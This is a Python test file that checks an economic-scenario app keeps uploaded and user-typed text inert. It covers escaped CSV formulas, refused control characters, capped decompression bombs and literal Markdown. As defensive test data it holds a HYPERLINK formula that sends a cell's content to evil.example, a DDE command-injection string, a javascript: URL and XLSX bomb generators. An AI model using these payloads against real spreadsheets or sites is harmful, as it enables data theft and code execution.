"""Inputs stay data (issue 16, items 2–6 and 8): formulas written as text, CSV cells escaped,
user text never rendered as Markdown, control characters refused naming the cell, uploads
capped (bytes, unpacked size, rows, columns, cells, problems listed), percent cells read as
shown, CR-only line endings read, XLSX history uploads usable, names without invisible
characters, /overview accepted, and every slider's and box's bounds accepted in a link."""

from __future__ import annotations

import csv
import functools
import io
import json

import pytest
from openpyxl import Workbook, load_workbook

from bench.upload_bomb import xlsx_rows_bomb as _rows_bomb
from bench.upload_bomb import xlsx_wide_bomb, xlsx_with_sheet
from cli.main import main
from model import limits
from model.cells import csv_text, csv_unescape
from model.history import DEFAULT_HISTORY_PATH, canonical_history, parse_history
from model.scenario import format_number, parse_scenario
from model.template import (
    TemplateError,
    dataset_from_table,
    read_table,
)
from report import exports
from report.i18n import message
from report.template_writer import write_template
from tests.conftest import ADMIN, EDITOR

xlsx_rows_bomb = functools.cache(_rows_bomb)  # built once for the tests that use it
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _csv(rows: list[list[str]], newline: str = "\r\n") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator=newline).writerows(rows)
    return buf.getvalue().encode("utf-8")


def _template_rows(ds) -> list[list[str]]:
    text = write_template(ds, "csv", with_actuals=True).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _with_source(ds, source: str):
    """The shipped data uploaded with ``source`` as GDP's source cell."""
    rows = _template_rows(ds)
    head = rows[0]
    gdp = next(r for r in rows if r[0] == "gdp")
    gdp[head.index("source")] = source
    gdp[head.index("ytd_value")] = "150.5"  # a new figure: it carries the uploaded source
    return dataset_from_table(read_table(_csv(rows), "up.csv"), ds)


# --- formulas and CSV escaping --------------------------------------------------------------
def test_the_text_escaper_leaves_numbers_and_escapes_formula_starts():
    for text in ("=1+2", "+cmd", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
        assert csv_text(text) == "'" + text and csv_unescape(csv_text(text)) == text
    for same in ("-5.2", "+8.5%", "1e3", "书记方案", "a=b", "", None, 3.5):
        assert csv_text(same) == same


def test_an_uploaded_formula_source_is_a_string_in_the_xlsx_template(ds):
    up = _with_source(ds, FORMULA)
    wb = load_workbook(io.BytesIO(write_template(up, "xlsx", with_actuals=True)))
    ws = wb.active
    head = [c.value for c in ws[1]]
    gdp = next(row for row in ws.iter_rows(min_row=2) if row[0].value == "gdp")
    cell = gdp[head.index("source")]
    assert cell.value == FORMULA and cell.data_type == "s"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_an_uploaded_formula_source_is_escaped_in_the_csv_template_and_reads_back(ds):
    up = _with_source(ds, FORMULA)
    rows = _template_rows(up)
    head = rows[0]
    gdp = next(r for r in rows if r[0] == "gdp")
    assert gdp[head.index("source")] == "'" + FORMULA
    assert gdp[head.index("target_growth_pct")] == "8.5"  # numbers stay numbers
    neg = [c for r in rows[1:] for c in r if c.startswith("-")]
    assert all(c.lstrip("-").replace(".", "").isdigit() for c in neg)  # negatives unescaped
    back = dataset_from_table(read_table(write_template(up, "csv", with_actuals=True), "t.csv"), ds)
    assert back.get("gdp").figure("h1_value") == up.get("gdp").figure("h1_value")
    assert {f.quote for f in back.get("gdp").figures.values()} >= {FORMULA}
    assert back.data_id == up.data_id


@pytest.mark.parametrize("name", ["@SUM(1+1)", "-2+3", "+cmd", "=1+2"])
def test_a_scenario_name_is_escaped_in_the_csv_export_and_text_in_the_xlsx_export(ds, name):
    v = exports.view(ds, "fiscal_revenue=7", name=name)
    text = exports.to_csv([v], ds).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert {r[0] for r in rows[1:]} == {"'" + name}
    assert rows[1][3] == "+8.5%"  # the page's strings are not touched
    wb = load_workbook(io.BytesIO(exports.to_xlsx([v], ds)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    heads = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(name)]
    assert heads and all(c.data_type == "s" for c in cells if c.value in heads)


def test_an_uploaded_formula_source_is_text_in_the_xlsx_export(ds):
    up = _with_source(ds, FORMULA)
    v = exports.view(up, "")
    wb = load_workbook(io.BytesIO(exports.to_xlsx([v], up)))
    quotes = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    hit = [c for c in quotes if isinstance(c.value, str) and FORMULA in c.value]
    assert hit and all(c.data_type == "s" for c in hit)
    assert not [c for c in quotes if c.data_type == "f"]


# --- control characters ----------------------------------------------------------------------
def test_a_control_character_is_refused_naming_its_cell(ds):
    rows = _template_rows(ds)
    rows[3][rows[0].index("source")] = "speech\x07"
    with pytest.raises(TemplateError) as err:
        read_table(_csv(rows), "bad.csv")
    assert err.value.problems == ["row 4, column source: control character U+0007 is not allowed"]
    assert [message("zh", p) for p in err.value.items] == [
        "第4行，source列：含控制字符 U+0007，请删除"
    ]


def test_a_tab_in_an_xlsx_cell_is_refused_naming_its_cell():
    def write(f):
        f.write('<row><c t="inlineStr"><is><t>id</t></is></c>')
        f.write('<c t="inlineStr"><is><t>months_elapsed</t></is></c></row>')
        f.write('<row><c t="inlineStr"><is><t>gdp\tx</t></is></c><c><v>6</v></c></row>')

    with pytest.raises(TemplateError) as err:
        read_table(xlsx_with_sheet(write), "tab.xlsx")
    assert err.value.problems == ["row 2, column id: control character U+0009 is not allowed"]


def test_a_control_character_in_a_history_file_is_refused_naming_its_cell():
    lines = DEFAULT_HISTORY_PATH.read_text(encoding="utf-8").splitlines()
    lines[5] = lines[5] + "\x1b[31m"
    r = parse_history("\n".join(lines).encode(), "h.csv")
    assert r.problems == ("row 6, column geo_level: control character U+001B is not allowed",)
    assert [message("zh", p) for p in r.problems] == [
        "第6行，geo_level列：含控制字符 U+001B，请删除"
    ]


def test_a_bidi_control_is_refused_too():
    assert limits.control_char("abc\u202edef") == "U+202E"
    assert limits.control_char("普通文字 ok") is None


@pytest.mark.parametrize("ch", ["\x07", "\x1b", "\x85", "\u202a", "\u202e", "\u2066", "\u2069"])
def test_one_rule_for_control_and_bidi_characters_in_every_user_text(ch, ds, tmp_path):
    """The cell rule (model.limits.control_char) is the link's and the store's: a scenario
    note with U+202E is refused as a CSV cell with it is, and nothing is stored."""
    from store import Store

    code = f"U+{ord(ch):04X}"
    rows = _template_rows(ds)
    rows[3][rows[0].index("source")] = f"讲话{ch}"
    with pytest.raises(TemplateError) as err:
        read_table(_csv(rows), "bad.csv")
    assert err.value.problems == [f"row 4, column source: control character {code} is not allowed"]
    # a scenario name in a compare link
    scenario, issues = parse_scenario([("s", f"书记{ch}方案"), ("s", "保守")], ds)
    assert scenario.compare == ("保守",)
    assert [(i.key, i.code, i.message) for i in issues] == [
        ("s", "control", f"s: control character {code}")
    ]
    # the store: a note, an author, a dataset's label and file name, an account name
    store = Store(f"sqlite:///{tmp_path / 'one_rule.sqlite3'}")
    refused = {
        "note": lambda: store.save("书记方案", "fai=1", "v", actor=EDITOR, note=f"会前{ch}"),
        "author": lambda: store.save("书记方案", "fai=1", "v", actor=EDITOR, author=f"王{ch}"),
        "label": lambda: store.put_data("data", "a" * 12, "{}", actor=EDITOR, label=f"Q3{ch}"),
        "file name": lambda: store.put_data(
            "data", "a" * 12, "{}", actor=EDITOR, label="Q3", filename=f"q3{ch}.csv"
        ),
    }
    for what, write in refused.items():
        with pytest.raises(ValueError) as err:
            write()
        assert str(err.value) == f"{what}: must not contain control characters"
    with pytest.raises(ValueError, match="must not contain spaces or control characters"):
        store.add_user(f"ed{ch}1", "editor", actor=ADMIN, password="long enough 1")
    assert store.list(include_deleted=True) == [] and store.list_data("data") == []
    assert [a.name for a in store.list_users()] == []
    # a note keeps its line breaks; a name, which is one line, does not
    saved = store.save("书记方案", "fai=1", "v", actor=EDITOR, note="会前\n会后")
    assert saved.note == "会前\n会后"
    with pytest.raises(ValueError, match="name: must not contain control characters"):
        store.save("书记\n方案", "fai=1", "v", actor=EDITOR)


def test_the_one_escape_of_a_control_or_unusual_space_in_a_message(tmp_path, monkeypatch, capsys):
    """Quoted text in a message escapes what it cannot show as Python does: U+3000 as
    \\u3000 (the command line wrote \\x3000), a bell as \\x07, a newline as \\n."""
    from model.fmt import one_line

    assert one_line("a\u3000b\x07\n\u202e") == "a\\u3000b\\x07\\n\\u202e"
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'escape.sqlite3'}")
    monkeypatch.setattr("sys.stdin", io.StringIO("long enough 1\n"))
    assert main(["users", "add", "王\u3000编辑", "--role", "editor", "--password-stdin"]) == 0
    assert capsys.readouterr().out == "added local user '王\\u3000编辑' as editor\n"
    assert main(["users", "list"]) == 0
    assert capsys.readouterr().out.splitlines()[-1].startswith("王\\u3000编辑\teditor\tlocal\t")


# --- caps --------------------------------------------------------------------------------------
def test_a_million_row_xlsx_is_refused_on_its_unpacked_size():
    bomb = xlsx_rows_bomb(1_000_000)
    assert len(bomb) < 200_000
    with pytest.raises(TemplateError) as err:
        read_table(bomb, "bomb.xlsx")
    assert err.value.problems == [
        "file: the XLSX file is too large unpacked (24.8 MB, at most 8 MB)"
    ]
    r = parse_history(bomb, "bomb.xlsx")
    assert [message("zh", p) for p in r.problems] == ["XLSX 文件解压后过大（24.8 MB，上限 8 MB）"]
    assert [message("zh", p) for p in err.value.items] == [
        "XLSX 文件解压后过大（24.8 MB，上限 8 MB）"
    ]


def test_an_xlsx_under_the_size_cap_is_refused_at_the_row_cap_and_a_wide_row_at_the_columns():
    with pytest.raises(TemplateError) as err:
        read_table(xlsx_rows_bomb(100_000), "rows.xlsx")
    assert err.value.problems == [f"file: the table has more than {limits.MAX_ROWS} rows"]
    with pytest.raises(TemplateError) as err:
        read_table(xlsx_wide_bomb(100_000), "wide.xlsx")
    assert err.value.problems == [f"file: row 1 has more than {limits.MAX_COLUMNS} columns"]


def test_a_csv_with_too_many_rows_or_bytes_is_refused():
    rows = ("id,months_elapsed\n" + "gdp,6\n" * (limits.MAX_ROWS + 1)).encode()
    with pytest.raises(TemplateError) as err:
        read_table(rows, "rows.csv")
    assert err.value.problems == [f"file: the table has more than {limits.MAX_ROWS} rows"]
    big = b"id,months_elapsed\n" + b"x" * limits.MAX_BYTES
    with pytest.raises(TemplateError) as err:
        read_table(big, "big.csv")
    assert err.value.problems == ["file: file too large (2.0 MB, at most 2 MB)"]
    (only,) = parse_history(big, "big.csv").problems
    assert message("zh", only) == "文件过大（2.0 MB，上限 2 MB）"
    assert message("en", err.value.items[0]) == "file: file too large (2.0 MB, at most 2 MB)"


def test_the_problem_list_stops_at_its_cap_with_a_count_of_the_rest(ds):
    rows = [["id", "months_elapsed"]] + [[f"nope{i}", "6"] for i in range(100)]
    with pytest.raises(TemplateError) as err:
        dataset_from_table(read_table(_csv(rows), "many.csv"), ds)
    problems = err.value.problems
    assert len(problems) == limits.MAX_PROBLEMS + 1
    assert problems[0] == "row 2, column id: unknown id 'nope0'"
    assert problems[-1] == f"… and {100 - limits.MAX_PROBLEMS} more problems not listed"
    with pytest.raises(TemplateError) as err:
        dataset_from_table(read_table(_csv(rows), "many.csv"), ds)
    assert message("zh", err.value.items[-1]) == f"……另有 {100 - limits.MAX_PROBLEMS} 个问题未列出"


def test_control_characters_in_many_history_cells_are_listed_up_to_the_cap():
    lines = DEFAULT_HISTORY_PATH.read_text(encoding="utf-8").splitlines()
    bad = [lines[0]] + [x + "\x01" for x in lines[1:101]]
    problems = parse_history("\n".join(bad).encode(), "h.csv").problems
    assert len(problems) == limits.MAX_PROBLEMS + 1
    assert problems[-1] == f"… and {100 - limits.MAX_PROBLEMS} more problems not listed"


# --- reading: percent cells, CR-only line endings -------------------------------------------
def _xlsx(rows: list[list[object]], formats: dict[tuple[int, int], str]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for (r, c), f in formats.items():
        ws.cell(r, c).number_format = f
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_percent_formatted_xlsx_cell_reads_as_the_percent_shown(ds):
    rows = [list(_template_rows(ds)[0])]
    head = rows[0]
    gdp = dict(zip(head, next(r for r in _template_rows(ds) if r[0] == "gdp"), strict=True))
    line: list[object] = [gdp[c] for c in head]
    line[head.index("ytd_growth_pct")] = 0.0625
    line[head.index("months_elapsed")] = 6
    col = head.index("ytd_growth_pct") + 1
    data = _xlsx([head, line], {(2, col): "0.00%"})
    up = dataset_from_table(read_table(data, "pct.xlsx"), ds)
    assert up.get("gdp").figure("h1_growth_pct") == 6.25
    assert limits._text(0.061, "0.0%") == "6.1" and limits._text(0.5, '0.0"%"') == "0.5"


def test_a_percent_formatted_history_xlsx_gives_the_same_table_as_its_csv():
    text = DEFAULT_HISTORY_PATH.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    g = rows[0].index("growth_pct")
    out: list[list[object]] = [rows[0]]
    fmts = {}
    for i, r in enumerate(rows[1:], start=2):
        cells: list[object] = list(r)
        if r[g]:
            cells[g] = float(r[g]) / 100
            fmts[(i, g + 1)] = "0.0%"
        out.append(cells)
    from_xlsx = parse_history(_xlsx(out, fmts), "h.xlsx")
    from_csv = parse_history(text.encode(), "h.csv")
    assert from_xlsx.ok and from_csv.ok
    a, b = from_xlsx.table, from_csv.table
    assert a["growth_pct"].equals(b["growth_pct"])  # 8.2% reads as 8.2, exactly
    assert a.equals(b) and canonical_history(a) == canonical_history(b)


def test_cr_only_line_endings_read_in_the_template_the_history_and_the_cli(ds, tmp_path, capsys):
    rows = _template_rows(ds)
    cr = _csv(rows, newline="\r")
    assert b"\n" not in cr
    back = dataset_from_table(read_table(cr, "cr.csv"), ds)
    assert back.data_id == ds.data_id
    hist = DEFAULT_HISTORY_PATH.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r")
    r = parse_history(hist, "cr.csv")
    assert r.ok and len(r.table) == len(parse_history(DEFAULT_HISTORY_PATH.read_bytes()).table)
    (tmp_path / "cr.csv").write_bytes(cr)
    (tmp_path / "hist.csv").write_bytes(hist)
    assert main(["--json", "--data", str(tmp_path / "cr.csv")]) == 0
    assert len(json.loads(capsys.readouterr().out)) == len(ds.indicators)
    assert main(["--json", "--history", str(tmp_path / "hist.csv")]) == 0
    assert json.loads(capsys.readouterr().out)


def test_a_history_source_url_must_be_a_web_address():
    text = DEFAULT_HISTORY_PATH.read_text(encoding="utf-8").splitlines()
    text[1] = text[1].replace("http://", "javascript:alert(1)//", 1)
    r = parse_history("\n".join(text).encode(), "h.csv")
    assert r.problems == ("source_url is not an address starting with http:// or https://: row 2",)


# --- the pages: Markdown, the XLSX history upload, /overview, slider bounds ---------------
EVIL = "[x](http://evil.example/a) ![i](http://evil.example/i.png) **b** <b>h</b>"


def test_a_deleted_scenarios_name_is_shown_literally_on_its_restore_button(
    make_app, tmp_path, monkeypatch
):
    from store import Store

    url = f"sqlite:///{tmp_path / 'own.sqlite3'}"
    monkeypatch.setenv("DATABASE_URL", url)  # this test's own store: only its deleted name
    store = Store(url).acting_as(EDITOR)
    name = "[x](http://evil.example/a) **b**"
    store.save(name, "fiscal_revenue=7", "v")
    store.delete(name)
    at = make_app(editor=True)  # the restore button is an editor's control
    at.session_state["store_panel_open"] = True
    at.run()
    assert not at.exception
    labels = [b.label for b in at.button if b.key and b.key.startswith("store_restore_")]
    assert labels == ["恢复: \\[x\\]\\(http\u2060\\://evil.example/a\\) \\*\\*b\\*\\*"]


def test_an_xlsx_history_upload_is_stored_and_its_hist_link_works(make_app, tmp_path, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'own.sqlite3'}")  # own store
    text = DEFAULT_HISTORY_PATH.read_text(encoding="utf-8")
    rows = [r for r in csv.reader(io.StringIO(text)) if ",2020," not in ",".join(r)]
    g = rows[0].index("growth_pct")
    out: list[list[object]] = [rows[0]]
    fmts = {}
    for i, r in enumerate(rows[1:], start=2):
        cells: list[object] = list(r)
        if r[g]:
            cells[g] = float(r[g]) / 100
            fmts[(i, g + 1)] = "0.0%"
        out.append(cells)
    at = make_app(page="app_pages/method.py", editor=True)  # storing a history: an editor
    name = "[h](http://evil.example) trimmed.xlsx"
    at.file_uploader(key="history_upload").upload(name, _xlsx(out, fmts), "application/x").run()
    assert not at.exception and not at.error
    hist = at.query_params.get("hist")
    hist = hist[0] if isinstance(hist, list) else hist
    # the same figures as the CSV: the same stored table, the same id
    csv_table = parse_history(_csv(rows), "t.csv").table
    from model.template import history_id

    assert hist == history_id(canonical_history(csv_table))
    again = make_app(f"hist={hist}", page="app_pages/method.py")
    assert not again.exception and not again.error and len(again.warning) == 0
    infos = [i.value for i in again.info]
    assert any("\\[h\\]\\(http\u2060\\://evil.example\\) trimmed.xlsx" in i for i in infos)
    assert not any("[h](http" in i for i in infos)
    assert again.dataframe  # the baselines table is drawn from the stored history


def test_overview_is_an_accepted_address_of_the_overview(make_app):
    at = make_app("fai=20", page="app_pages/overview_alias.py")
    assert not at.exception
    over = make_app("fai=20", page="app_pages/overview.py")
    assert [t.value for t in at.title] == [t.value for t in over.title]
    assert [i.value for i in at.info] == [i.value for i in over.info]
    assert at.query_params.get("fai") in ("20", ["20"])


@pytest.mark.parametrize(
    "page",
    [
        "app_pages/economy.py",
        "app_pages/industry.py",
        "app_pages/investment.py",
        "app_pages/land.py",
    ],
)
def test_every_slider_and_box_bound_is_accepted_in_a_link(make_app, ds, page):
    from ui.keys import LIVE_SYNC, assumptions_open_key

    at = make_app(page=page, run=False)
    for ind in ds.indicators:  # the assumptions' boxes open (drawn on demand)
        at.session_state[assumptions_open_key(ind.id)] = True
    at.run()
    assert not at.exception

    # every input a person sets (not the hidden run mark of ui.inputs, which no link carries)
    widgets = [w for w in (*at.slider, *at.number_input) if w.key != LIVE_SYNC]
    assert widgets
    for w in widgets:
        key = w.key.split(".", 1)[1]  # h2.fai → fai; as.gdp.h1_share → gdp.h1_share
        for bound in (w.min, w.max):
            _, issues = parse_scenario(f"{key}={format_number(bound)}", ds)
            assert issues == [], (w.key, bound, [i.message for i in issues])


def test_the_prior_year_box_offers_only_levels_with_a_plausible_h1_growth(make_app, ds):
    at = make_app("focus=industrial_output_local", page="app_pages/industry.py")
    box = at.number_input(key="as.industrial_output_local.prior_fy")
    for beyond in (box.max * 1.01, box.min * 0.99):
        _, issues = parse_scenario(f"industrial_output_local.prior_fy={format_number(beyond)}", ds)
        assert [i.code for i in issues] == ["implausible"]


# --- names ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    ["书记\u200b方案", "书记方案\u2060", "\u202e书记方案", "书记\u00ad方案", "书记\u3164方案"],
)
def test_a_name_with_an_invisible_character_is_refused(name):
    from store import check_name

    with pytest.raises(ValueError, match="invisible"):
        check_name(name)


def test_names_that_look_the_same_are_the_same_name(tmp_path):
    from store import Store, check_name

    assert check_name("书记\u00a0方案") == check_name("书记 方案") == "书记 方案"
    assert check_name("ＡＢ\u3000 C") == "AB C"
    store = Store(f"sqlite:///{tmp_path / 's.sqlite3'}").acting_as(EDITOR)
    store.save("书记 方案", "fai=20", "v")
    with pytest.raises(ValueError, match="already saved"):
        store.save("书记\u00a0方案", "fai=30", "v")


def test_a_stored_time_is_shown_the_same_from_sqlite_and_postgresql():
    from datetime import UTC, datetime, timedelta, timezone

    from ui.datapage import shown_time

    naive_utc = datetime(2021, 7, 20, 1, 30)  # how SQLite hands it back
    aware = datetime(2021, 7, 20, 3, 30, tzinfo=timezone(timedelta(hours=2)))  # a PG session
    assert shown_time(naive_utc) == shown_time(aware) == "2021-07-20 09:30"
    assert shown_time(naive_utc.replace(tzinfo=UTC)) == "2021-07-20 09:30"


def test_the_data_page_refuses_a_bomb_with_one_line_and_keeps_the_data(make_app, ds):
    at = make_app(page="app_pages/data.py")
    at.file_uploader(key="data_upload").upload(
        "bomb.xlsx", xlsx_rows_bomb(1_000_000), "application/octet-stream"
    ).run()
    assert not at.exception
    assert len(at.error) == 1
    assert "XLSX 文件解压后过大（24.8 MB，上限 8 MB）" in at.error[0].value
    assert at.query_params.get("data") in (None, ds.data_id, [ds.data_id])
    assert "data_apply" not in [b.key for b in at.button]


def test_a_percent_typed_as_text_reads_as_that_percent_and_a_level_with_one_is_refused(ds):
    rows = _template_rows(ds)
    head = rows[0]
    gdp = next(r for r in rows if r[0] == "gdp")
    gdp[head.index("ytd_growth_pct")] = "6.25%"
    up = dataset_from_table(read_table(_csv(rows), "pct.csv"), ds)
    assert up.get("gdp").figure("h1_growth_pct") == 6.25
    gdp[head.index("ytd_value")] = "150%"
    with pytest.raises(TemplateError) as err:
        dataset_from_table(read_table(_csv(rows), "pct.csv"), ds)
    assert err.value.problems == ["row 2, column ytd_value: '150%' is not a number"]
    text = DEFAULT_HISTORY_PATH.read_text(encoding="utf-8").replace(",8.2,real", ",8.2%,real", 1)
    assert parse_history(text.encode(), "h.csv").table["growth_pct"].iloc[0] == 8.2


def test_a_bound_written_with_ten_digits_is_the_bound(ds):
    from model.scenario import KeySpec, parse_number

    spec = KeySpec("x", 0.0, 0.6149999999999999)  # 5 × 0.123, as floats make it
    assert format_number(spec.high) == "0.615" and float("0.615") > spec.high
    assert parse_number("x", format_number(spec.high), spec) == (spec.high, None)
    value, issue = parse_number("x", "0.6151", spec)
    assert value is None and issue.code == "out_of_range"
